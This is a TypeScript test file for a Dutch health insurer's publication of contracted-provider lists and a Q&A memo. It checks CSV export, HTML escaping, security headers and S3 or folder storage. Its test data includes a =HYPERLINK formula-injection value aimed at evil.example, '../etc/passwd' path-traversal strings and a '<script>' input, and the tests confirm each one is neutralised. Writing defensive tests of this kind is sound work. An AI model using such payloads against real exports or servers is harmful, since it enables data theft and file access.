/** The public documents: the contracted-provider list, the Q&A memo, and where they are stored. */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { mockClient } from 'aws-sdk-client-mock';
import { GetObjectCommand, NoSuchKey, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { loadCalendar } from '../../../functions/calendar/validate.ts';
import { ValidationError } from '../../../functions/commons/errors.ts';
import type { Cycle, Question } from '../../../functions/domain/model.ts';
import {
  buildContractedList,
  contractedListCsv,
  contractedListHtml,
  publishContractedList,
  updateFrequencyOf,
} from '../../../functions/publication/contracted.ts';
import { qaMemoHtml } from '../../../functions/publication/qa-memo.ts';
import { createFilePublicationStore, createS3PublicationStore } from '../../../functions/publication/store.ts';
import { publicationsHandler } from '../../../functions/local/runtime-services.ts';
import { event } from '../http/support.ts';
import { aCycle } from '../../support/factories.ts';

const msr = async (): Promise<Cycle> => aCycle({ calendar: await loadCalendar('msr-2021'), id: 'msr-2021' });
const zg = async (): Promise<Cycle> => {
  const calendar = await loadCalendar('zg-2024-2025');
  return aCycle({ calendar, id: calendar.id, contract: calendar.contract, careType: calendar.careType });
};
const NOW = Date.parse('2020-11-12T08:00:00Z');

describe('the contracted-provider list', () => {
  it('states the contract period, how often it is updated, that not all contracts may be closed yet, and when it last changed', async () => {
    const cycle = await zg();
    const list = buildContractedList({ cycle, entries: [{ agb: '22222222', name: 'Zien & Horen' }, { agb: '11111111', name: 'Auris' }], openApplications: true, now: NOW });
    expect(list).toMatchObject({
      contractPeriod: { from: '2024-01-01', to: '2025-12-31', years: 2 },
      notAllContractsClosed: true,
      lastChanged: '2020-11-12T08:00:00.000Z',
      providers: [{ agb: '11111111', name: 'Auris' }, { agb: '22222222', name: 'Zien & Horen' }],
    });
    expect(updateFrequencyOf(cycle)).toBe('Dit overzicht wordt bijgewerkt op 12 november 2023.');
    expect(updateFrequencyOf(await msr())).toMatch(/^Dit overzicht wordt bijgewerkt op 12 november 2020 en na 31 december 2020/);
    const html = contractedListHtml(list);
    expect(html).toContain('<html lang="nl">');
    expect(html).toContain('contractperiode 2024–2025 (1 januari 2024 t/m 31 december 2025)');
    expect(html).toContain('Zien &amp; Horen');
    expect(html).toContain('Laatst gewijzigd:</strong> 12 november 2020');
    expect(html).toContain('Nog niet alle overeenkomsten zijn gesloten');
    expect(contractedListCsv(list)).toBe('agb,naam\r\n11111111,Auris\r\n22222222,Zien & Horen\r\n');
    expect(contractedListCsv({ ...list, providers: [{ agb: '1', name: 'A, "B"' }] })).toBe('agb,naam\r\n1,"A, ""B"""\r\n');
  });

  it('says every contract is closed once no application of the cycle is open', async () => {
    const list = buildContractedList({ cycle: await msr(), entries: [{ agb: '11111111', name: 'Adelante' }], openApplications: false, now: NOW });
    expect(list).toMatchObject({ notAllContractsClosed: false, notice: 'Alle overeenkomsten voor deze contractperiode zijn gesloten.' });
    const html = contractedListHtml(list);
    expect(html).not.toContain('Nog niet alle overeenkomsten');
    expect(html).toContain('Alle overeenkomsten voor deze contractperiode zijn gesloten.');
  });

  it('publishes no live spreadsheet formula in the CSV (a name starting with = + - @ is neutralised)', async () => {
    const list = buildContractedList({ cycle: await msr(), entries: [{ agb: '11111111', name: '=HYPERLINK("http://evil.example/?d="&A3,"Klik hier")' }], openApplications: true, now: NOW });
    const [, row] = contractedListCsv(list).split('\r\n');
    expect(row).toBe(`11111111,"'=HYPERLINK(""http://evil.example/?d=""&A3,""Klik hier"")"`);
  });

  it('keeps "last changed" when a republication lists the same providers', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'inkoop-pub-'));
    try {
      const publications = createFilePublicationStore({ dir, baseUrl: 'https://www.zorgverzekeraar.example/gecontracteerd' });
      const cycle = await msr();
      const entries = [{ agb: '11111111', name: 'Adelante' }];
      const first = await publishContractedList(publications, { cycle, entries, openApplications: true, now: NOW });
      expect(first.url).toBe('https://www.zorgverzekeraar.example/gecontracteerd/msr-2021/gecontracteerde-zorgaanbieders.html');
      const same = await publishContractedList(publications, { cycle, entries, openApplications: true, now: NOW + 86_400_000 });
      expect(same.list.lastChanged).toBe(first.list.lastChanged);
      expect(same.list.generatedAt).not.toBe(first.list.generatedAt);
      const changed = await publishContractedList(publications, { cycle, entries: [...entries, { agb: '22222222', name: 'Basalt' }], openApplications: true, now: NOW + 2 * 86_400_000 });
      expect(changed.list.lastChanged).toBe(changed.list.generatedAt);
      expect(JSON.parse(await readFile(join(dir, 'msr-2021', 'gecontracteerde-zorgaanbieders.json'), 'utf8')).providers).toHaveLength(2);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('the Q&A memo', () => {
  const q = (over: Partial<Question>): Question => ({
    cycleId: 'wlz-2021',
    id: 'q',
    agb: '12345678',
    contactId: 'c-1',
    kind: 'question',
    text: 'Vraag',
    askedAt: '2020-06-01T10:00:00.000Z',
    status: 'answered',
    public: true,
    answer: { text: 'Antwoord', by: 'inkoper-1', at: '2020-06-20T10:00:00.000Z' },
    ...over,
  });

  it('lists public answers in the order asked, escaped, without who asked', async () => {
    const cycle = aCycle({ calendar: await loadCalendar('wlz-2021'), id: 'wlz-2021', careType: { code: 'wlz', name: 'Wlz-zorg (langdurige zorg)' }, contract: { firstYear: 2021, termYears: 3 } });
    const html = qaMemoHtml({
      cycle,
      now: Date.parse('2020-07-01T07:00:00Z'),
      questions: [
        q({ id: 'b', askedAt: '2020-06-02T00:00:00.000Z', kind: 'objection', text: 'Bezwaar <script>' }),
        q({ id: 'a', text: 'Eerste vraag' }),
        q({ id: 'c', public: false, text: 'Privé' }),
      ],
    });
    expect(html).toContain('Nota van Inlichtingen inkoopbeleid Wlz-zorg (langdurige zorg) 2021–2023');
    expect(html.indexOf('Eerste vraag')).toBeLessThan(html.indexOf('Bezwaar &lt;script&gt;'));
    expect(html).toContain('2. Bezwaar');
    expect(html).not.toContain('Privé');
    expect(html).not.toContain('12345678');
    expect(qaMemoHtml({ cycle, now: 0, questions: [] })).toContain('Er zijn geen vragen of bezwaren van algemeen belang ontvangen.');
  });
});

describe('publication stores', () => {
  const s3 = mockClient(S3Client);
  beforeEach(() => s3.reset());
  const dirs: string[] = [];
  afterAll(async () => Promise.all(dirs.map((d) => rm(d, { recursive: true, force: true }))));

  it('a folder: only <cycleId>/<file> paths', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'inkoop-pub-'));
    dirs.push(dir);
    const store = createFilePublicationStore({ dir, baseUrl: 'http://127.0.0.1:8787/publicaties/' });
    expect(await store.put('msr-2021/lijst.json', '{}', 'application/json')).toEqual({ url: 'http://127.0.0.1:8787/publicaties/msr-2021/lijst.json' });
    expect(await store.get('msr-2021/lijst.json')).toBe('{}');
    expect(await store.get('msr-2021/nope.json')).toBeUndefined();
    await expect(store.put('../etc/passwd', 'x', 'text/plain')).rejects.toBeInstanceOf(ValidationError);
    await expect(store.put('msr-2021/../../x', 'x', 'text/plain')).rejects.toBeInstanceOf(ValidationError);
  });

  it('the local publications server sends nosniff, a CSP and no framing with every file; the page carries its CSP itself', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'inkoop-pub-'));
    dirs.push(dir);
    const store = createFilePublicationStore({ dir, baseUrl: 'http://127.0.0.1:1/' });
    const list = buildContractedList({ cycle: await msr(), entries: [{ agb: '11111111', name: 'Adelante' }], openApplications: true, now: NOW });
    await store.put('msr-2021/lijst.html', contractedListHtml(list), 'text/html');
    await store.put('msr-2021/lijst.csv', contractedListCsv(list), 'text/csv');
    const serve = publicationsHandler(dir);
    for (const path of ['/msr-2021/lijst.html', '/msr-2021/lijst.csv', '/msr-2021/nope.csv']) {
      const res = await serve(event('GET', path));
      expect(res.statusCode).toBe(path.includes('nope') ? 404 : 200);
      expect(res.headers).toMatchObject({ 'x-content-type-options': 'nosniff', 'x-frame-options': 'DENY' });
      expect(String(res.headers?.['content-security-policy'])).toMatch(/^default-src 'none'; style-src 'sha256-[^']+'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'$/);
    }
    // Wherever the insurer's website serves the page from (S3 cannot add headers), the page forbids scripts itself.
    expect(contractedListHtml(list)).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'sha256-/);
  });

  it('an S3 bucket: PutObject with the content type, GetObject, the public URL', async () => {
    s3.on(PutObjectCommand).resolves({});
    s3.on(GetObjectCommand, { Key: 'msr-2021/a.json' }).resolves({ Body: { transformToString: async () => '{"x":1}' } as never });
    s3.on(GetObjectCommand, { Key: 'msr-2021/b.json' }).rejects(new NoSuchKey({ message: 'no', $metadata: {} }));
    const store = createS3PublicationStore({ client: new S3Client({ region: 'eu-west-1' }), bucket: 'inkoop-publicaties', region: 'eu-west-1' });
    expect(await store.put('msr-2021/a.json', '{"x":1}', 'application/json; charset=utf-8')).toEqual({
      url: 'https://inkoop-publicaties.s3.eu-west-1.amazonaws.com/msr-2021/a.json',
    });
    expect(s3.commandCalls(PutObjectCommand)[0].args[0].input).toMatchObject({ Bucket: 'inkoop-publicaties', Key: 'msr-2021/a.json', ContentType: 'application/json; charset=utf-8' });
    expect(await store.get('msr-2021/a.json')).toBe('{"x":1}');
    expect(await store.get('msr-2021/b.json')).toBeUndefined();
    const cdn = createS3PublicationStore({ client: new S3Client({ region: 'eu-west-1' }), bucket: 'b', region: 'eu-west-1', baseUrl: 'https://www.zorgverzekeraar.example/p' });
    expect(cdn.urlOf('msr-2021/a.json')).toBe('https://www.zorgverzekeraar.example/p/msr-2021/a.json');
  });
});
